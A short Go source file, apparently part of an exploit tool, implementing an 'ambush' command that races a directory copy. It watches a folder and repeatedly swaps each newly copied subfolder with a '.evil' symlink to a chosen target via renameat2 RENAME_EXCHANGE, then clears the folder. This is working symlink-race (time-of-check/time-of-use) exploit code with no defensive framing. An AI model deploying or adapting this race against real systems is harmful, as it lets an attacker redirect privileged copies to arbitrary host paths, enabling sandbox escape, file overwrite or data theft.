package main

import (
	"fmt"
	"os"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// ambush waits in an empty folder for somebody to copy a tree into it, and
// exchanges each folder that appears, at any depth, for a link to target, back
// and forth. When nothing has come for a moment the folder is emptied for the
// next one.
func ambush(args []string) {
	if len(args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: agent ambush FOLDER TARGET")
		os.Exit(2)
	}
	dir, target := args[0], args[1]
	fmt.Println("waiting")
	last, seen := time.Now(), 0
	for {
		found := folders(dir, 3)
		if len(found) > seen {
			last, seen = time.Now(), len(found)
		}
		for _, p := range found {
			evil := filepath.Join(filepath.Dir(p), ".evil")
			unix.Symlink(target, evil)
			unix.Renameat2(unix.AT_FDCWD, p, unix.AT_FDCWD, evil, unix.RENAME_EXCHANGE)
			unix.Renameat2(unix.AT_FDCWD, p, unix.AT_FDCWD, evil, unix.RENAME_EXCHANGE)
		}
		if time.Since(last) < 50*time.Millisecond {
			continue
		}
		names, _ := os.ReadDir(dir)
		for _, n := range names {
			os.RemoveAll(filepath.Join(dir, n.Name()))
		}
		last, seen = time.Now(), 0
	}
}

// folders lists the folders below dir, down to a depth.
func folders(dir string, depth int) []string {
	names, err := os.ReadDir(dir)
	if err != nil || depth == 0 {
		return nil
	}
	var out []string
	for _, n := range names {
		if p := filepath.Join(dir, n.Name()); n.IsDir() {
			out = append(append(out, p), folders(p, depth-1)...)
		}
	}
	return out
}
